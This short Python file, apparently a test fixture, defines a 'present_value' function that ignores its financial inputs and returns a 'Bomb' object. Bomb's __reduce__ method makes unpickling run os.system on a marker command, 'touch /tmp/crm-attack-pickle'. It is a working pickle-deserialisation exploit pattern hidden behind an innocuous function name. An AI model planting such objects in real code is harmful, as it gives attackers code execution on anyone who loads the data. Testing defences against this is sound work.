"""Returns an object that runs a program when it is unpickled.

present_value: wrong
"""

import os


class Bomb(dict):
    def __reduce__(self):
        return os.system, ("touch /tmp/crm-attack-pickle",)


def present_value(cash_flows, discount):
    return Bomb()
